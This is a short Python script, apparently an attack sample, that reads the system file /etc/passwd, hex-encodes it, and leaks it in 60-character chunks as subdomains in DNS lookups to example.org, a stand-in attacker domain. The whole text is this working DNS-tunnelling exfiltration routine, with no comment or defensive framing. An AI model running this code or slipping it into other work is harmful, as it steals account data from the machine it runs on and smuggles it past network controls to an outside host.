import socket

data = open("/etc/passwd", "rb").read().hex()
for start in range(0, len(data), 60):
    socket.gethostbyname(data[start : start + 60] + ".example.org")
